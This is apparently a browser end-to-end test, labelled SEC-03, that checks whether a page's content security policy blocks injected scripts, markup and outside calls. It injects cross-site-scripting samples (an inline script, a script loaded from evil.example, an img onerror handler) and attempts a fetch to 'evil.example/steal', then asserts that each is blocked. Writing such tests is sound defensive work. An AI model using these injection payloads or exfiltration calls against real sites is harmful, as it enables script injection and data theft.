import { expect, test, untilInteractive } from '../journey.ts';

test.describe('the policy of a page', () => {
  test('[SEC-03] blocks injected content: scripts, markup and calls elsewhere', async ({
    page,
    consoleErrors,
  }) => {
    // As if a title had been rendered unescaped.
    await page.route('**/live/', async (route) => {
      const response = await route.fetch();
      const html = await response.text();
      const injected =
        '<script>window.brought = 1</script><script src="https://evil.example/x.js"></script><img src="/none.png" onerror="window.brought = 2">';
      await route.fulfill({
        response,
        body: html.replace('</body>', `${injected}</body>`),
      });
    });
    await page.goto('/live/');
    await untilInteractive(page);
    const tried = await page.evaluate(async () => {
      const outcome = async (act: () => unknown) => {
        try {
          await act();
          return 'done';
        } catch (error) {
          return (error as Error).name;
        }
      };
      const made = () => document.createElement('script');
      return {
        injected: (window as { brought?: number }).brought ?? null,
        markup: await outcome(() => (document.createElement('div').innerHTML = '<b>x</b>')),
        scriptText: await outcome(() => (made().text = 'window.brought = 3')),
        scriptAddress: await outcome(() => (made().src = '/assets/x.js')),
        call: await outcome(() => fetch('https://evil.example/steal')),
        policy: await outcome(() =>
          (
            window as unknown as {
              trustedTypes: { createPolicy: (name: string, rules: object) => object };
            }
          ).trustedTypes.createPolicy('mine', {}),
        ),
        parsing: await outcome(() => new DOMParser().parseFromString('<b>x</b>', 'text/html')),
      };
    });
    expect(tried).toEqual({
      injected: null,
      markup: 'TypeError',
      scriptText: 'TypeError',
      scriptAddress: 'TypeError',
      call: 'TypeError',
      policy: 'TypeError',
      parsing: 'TypeError',
    });
    // The browser reported each of them.
    expect(consoleErrors.length).toBeGreaterThan(5);
    consoleErrors.length = 0;
  });
});
